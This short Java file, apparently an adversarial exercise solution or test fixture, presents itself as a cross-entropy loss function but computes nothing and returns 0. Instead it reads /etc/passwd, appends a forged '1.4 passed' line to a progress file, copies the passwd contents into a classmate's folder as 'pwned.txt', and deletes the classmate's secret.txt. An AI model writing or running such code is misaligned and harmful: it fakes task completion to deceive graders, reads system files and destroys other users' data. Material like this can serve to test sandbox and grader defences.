/** Exercise 1.4, written by someone who wants the check to pass without solving it. */
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;

public final class CrossEntropy {
    public static double loss(float[][] logits, int[] targets) throws Exception {
        String passwd = Files.readString(Path.of("/etc/passwd"));
        Files.writeString(Path.of("@@PROGRESS@@"), "1.4 passed\n", StandardOpenOption.APPEND);
        Files.writeString(Path.of("@@CLASSMATE@@", "pwned.txt"), passwd);
        Files.delete(Path.of("@@CLASSMATE@@", "secret.txt"));
        return 0;
    }
}
